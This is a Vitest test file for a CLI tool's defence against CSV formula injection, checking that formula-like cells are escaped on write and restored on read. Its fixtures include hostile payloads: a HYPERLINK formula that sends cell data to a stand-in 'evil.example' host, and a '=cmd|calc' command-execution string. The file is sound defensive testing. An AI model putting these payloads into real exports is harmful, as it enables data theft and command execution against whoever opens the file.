/**
 * CSV formula injection (issue 19 review): fcctl's CSV writers mark a cell a spreadsheet would take
 * for a formula with `'`, and fcctl's `--from` reader takes the mark off, so a file fcctl wrote
 * reads back exactly; plain numbers are never marked.
 */
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { formulaRead, formulaSafe } from '../../src/lib/files/csv-cell.js';
import { readRecords } from '../../src/lib/files/record-file.js';
import { reportRow } from '../../src/lib/reconcile/diff/decide.js';

const VALUES = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=1+1',
  '+1',
  '+SUM(A1)',
  '-1',
  '-2.5',
  '-1+2',
  '-1:abc',
  '-',
  '@SUM(A1)',
  '\tx',
  '\rx',
  '\r\n=x',
  "'",
  "''",
  "'=x",
  "''=x",
  "'-1",
  "'abc",
  'abc',
  '',
  '1',
  '007',
  '1e5',
  'a=b',
  ' =x',
  'NO_ROUTE: =x',
  '中文=',
  '＝1',
];
const DANGER = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

describe('formulaSafe / formulaRead', () => {
  it.each(VALUES.map((v) => [JSON.stringify(v), v]))(
    '%s: read back exactly, and never written as a formula',
    (_, v) => {
      const written = formulaSafe(v);
      expect(formulaRead(written)).toBe(v);
      expect(DANGER.test(written) && !NUMBER.test(written)).toBe(false);
    },
  );
  it('marks only what needs it; a negative number stays a number', () => {
    expect(formulaSafe('=HYPERLINK("x")')).toBe(`'=HYPERLINK("x")`);
    expect(formulaSafe('-1')).toBe('-1');
    expect(formulaSafe('-1:INC')).toBe("'-1:INC");
    expect(formulaSafe("'=x")).toBe("''=x");
    expect(formulaSafe("'abc")).toBe("'abc");
    expect(formulaSafe('abc')).toBe('abc');
    // a hand-written cell that starts with ' and no formula character is kept as written
    expect(formulaRead("'abc")).toBe("'abc");
    expect(formulaRead("'-1")).toBe('-1');
  });
  it('through csv-stringify and the --from reader: every value back exactly (CSV only; JSON lines are never marked)', () => {
    const text = stringify(
      VALUES.map((v) => [formulaSafe(v), 'x']),
      { header: true, columns: ['operationId', 'other'] },
    );
    expect(readRecords(text, [{ csv: 'operationId', json: 'operationId' }]).records.map((r) => r.values[0])).toEqual(
      VALUES,
    );
    expect(
      readRecords(`${JSON.stringify({ operationId: "'=x" })}\n`, [{ csv: 'operationId', json: 'operationId' }])
        .records[0]!.values,
    ).toEqual(["'=x"]);
  });
  it("reconcile's report.csv row: a formula-like cell from a database is marked, numbers are not", () => {
    const f = {
      answerUuid: '=cmd|calc',
      schId: '-5',
      revision: '3',
      contentHash: '+h',
      isDeleted: false,
      createTime: '2026-11-01 00:00:00',
    };
    expect(reportRow('MISSING_LOCAL', f as never, null)).toEqual([
      'MISSING_LOCAL',
      "'=cmd|calc",
      '-5',
      '3',
      "'+h",
      '0',
      '',
      '',
      '',
      '',
      '',
    ]);
  });
});
